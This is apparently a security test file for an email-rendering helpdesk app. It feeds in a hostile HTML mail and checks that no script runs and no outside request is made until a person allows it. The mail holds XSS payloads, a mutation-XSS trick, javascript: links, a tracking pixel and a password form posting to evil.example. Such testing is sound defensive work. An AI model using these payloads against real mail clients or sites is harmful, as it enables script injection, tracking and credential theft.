/** A mail written to do harm, shown as it was sent: nothing in it runs, and nothing loads but what a person asks for. */
import type { ChannelSetup, Inbox } from "@switchboard/protocol";
import type { Page } from "playwright-core";
import { expect, test } from "vitest";

import { Agent } from "../src/agent.js";
import { Crowd, PATIENCE_MS } from "../src/crowd.js";
import { ALONE } from "../src/deployment.js";
import { OWNER, open } from "../src/workspace.js";

const PUBLIC = "https://lamps.example";
const EVIL = "https://evil.example";
const PIXEL = "R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7";

/** Each line would run something, leave the page or tell somebody that the mail was opened. */
const HOSTILE = `
<html><head><base href="${EVIL}/base/"><meta http-equiv="refresh" content="0;url=${EVIL}/refresh">
<link rel="stylesheet" href="${EVIL}/sheet.css"><link rel="dns-prefetch" href="${EVIL}">
<style>@import "${EVIL}/import.css"; body { background: url(${EVIL}/sheet.png) } .own { color: red }</style></head>
<body background="${EVIL}/body.png" onload="parent.document.title='ran'">
<h1 style="color:#b00000">Your parcel</h1>
<script>parent.document.title = "ran"; fetch("${EVIL}/script")</script>
<script src="${EVIL}/script.js"></script>
<img src="${EVIL}/pixel.gif" width="1" height="1" alt="Tracker"><img src="//evil.example/slashes.gif">
<img src="x" onerror="parent.document.title='ran'" srcset="${EVIL}/set.png 2x">
<img src="cid:photo@mail" alt="Photo">
<p style="background-image: url('${EVIL}/css.png'); position: fixed; inset: 0">Over everything</p>
<p style="background: u\\rl(${EVIL}/escaped.png)">x</p>
<svg onload="parent.document.title='ran'"><image href="${EVIL}/svg.png"/><script>parent.document.title="ran"</script></svg>
<math><mtext><table><mglyph><style><img src=x onerror="parent.document.title='ran'"></style></table></mtext></math>
<iframe src="${EVIL}/frame"></iframe><iframe srcdoc="<script>parent.parent.document.title='ran'</script>"></iframe>
<object data="${EVIL}/object"></object><embed src="${EVIL}/embed">
<video src="${EVIL}/film.mp4" poster="${EVIL}/poster.png" autoplay></video><audio src="${EVIL}/sound.mp3" autoplay></audio>
<form action="${EVIL}/form" target="_top"><input name="password" autofocus><button>Sign in</button></form>
<a href="javascript:parent.document.title='ran'">script</a>
<a href="data:text/html,<script>opener.document.title='ran'</script>">data</a>
<a href="${EVIL}/bank" title="https://bank.example">bank.example</a>
<noscript><img src="${EVIL}/noscript.png"></noscript><template><img src="${EVIL}/template.png"></template>
</body></html>`;

const MAIL = [
  "From: Mallory <mallory@evil.example>",
  "To: help@lamps.example",
  "Subject: Your parcel",
  "Message-ID: <parcel@evil.example>",
  "MIME-Version: 1.0",
  'Content-Type: multipart/related; boundary="part"',
  "",
  "--part",
  "Content-Type: text/html; charset=utf-8",
  "",
  HOSTILE,
  "--part",
  'Content-Type: image/gif; name="photo.gif"',
  "Content-Transfer-Encoding: base64",
  "Content-ID: <photo@mail>",
  "Content-Disposition: inline",
  "",
  PIXEL,
  "--part--",
  "",
].join("\r\n");

test("a mail written to do harm does none", async () => {
  const { deployment, owner } = await open(ALONE, { SWITCHBOARD_PUBLIC_URL: PUBLIC });
  let crowd: Crowd | undefined;
  try {
    const inbox = await owner.post<Inbox>("/api/inboxes", { name: "Mail", channel: "email" });
    const saved = await owner.send("PUT", `/api/inboxes/${inbox.id}/channel`, {
      settings: { kind: "email", address: "help@lamps.example" },
      secrets: { push_secret: "pushed" },
    });
    const { webhook } = (await saved.json()) as ChannelSetup;
    const address = deployment.url + new URL(webhook ?? "").pathname;
    const pushed = await fetch(`${address}/raw`, {
      method: "POST",
      headers: { "x-switchboard-secret": "pushed" },
      body: MAIL,
    });
    expect(pushed.status).toBe(200);

    crowd = await Crowd.gather(deployment.url, "mail");
    const olive = await Agent.signIn(crowd, OWNER);
    await olive.open("Your parcel");
    await isShownAndHarmless(olive.page);
    await crowd.picture("mail");
    await picturesCome(olive.page);
  } finally {
    await crowd?.leave();
    await deployment.stop();
  }
});

async function isShownAndHarmless(page: Page): Promise<void> {
  // It is loaded anew, so that all that it asks for is seen.
  await page.getByRole("button", { name: "As text" }).click();
  const asked: string[] = [];
  const { origin } = new URL(page.url());
  page.context().on("request", (request) => {
    // The page itself goes on asking the hub for what it shows.
    if (request.frame() !== page.mainFrame() || new URL(request.url()).origin !== origin) asked.push(request.url());
  });
  await page.getByRole("button", { name: "As sent" }).click();
  const frame = page.frameLocator(".dk-mail__frame");
  await frame.getByRole("heading", { name: "Your parcel" }).waitFor();
  // The mail's own picture is the last that a frame loads.
  const photo = frame.getByAltText("Photo");
  await expect
    .poll(() => photo.evaluate((picture) => (picture as HTMLImageElement).naturalWidth), { timeout: PATIENCE_MS })
    .toBe(1);
  await page.getByRole("button", { name: "Show pictures from other sites" }).waitFor();
  const bank = frame.getByRole("link", { name: "bank.example" });
  expect(await bank.getAttribute("title")).toBe(`${EVIL}/bank`);
  expect(await bank.getAttribute("rel")).toContain("noopener noreferrer");
  expect(await bank.getAttribute("target")).toBe("_blank");
  for (const name of ["script", "data"])
    expect(await frame.getByText(name, { exact: true }).getAttribute("href")).toBe(null);
  expect(await frame.locator("script, style:nth-of-type(2), form, input, iframe, svg, [onload]").count()).toBe(0);
  const paths = asked.map((url) => new URL(url).pathname);
  expect(paths.map((path) => path.replace(/[0-9A-Z]{26}/, "*")).sort()).toEqual([
    "/api/attachments/*",
    "/api/messages/*/frame",
  ]);
  expect(page.frames().length).toBe(2);
  expect(await page.title()).not.toContain("ran");
  await expect.poll(() => page.evaluate(() => document.activeElement?.tagName)).not.toBe("IFRAME");
}

/** What the mail wants from elsewhere, when a person has asked for it: pictures, and nothing else. */
async function picturesCome(page: Page): Promise<void> {
  const asked: string[] = [];
  await page.context().route(`${EVIL}/**`, (route) => {
    asked.push(new URL(route.request().url()).pathname);
    return route.fulfill({ contentType: "image/gif", body: Buffer.from(PIXEL, "base64") });
  });
  await page.getByRole("button", { name: "Show pictures from other sites" }).click();
  await expect.poll(() => [...asked].sort(), { timeout: PATIENCE_MS }).toEqual(["/css.png", "/pixel.gif"]);
}
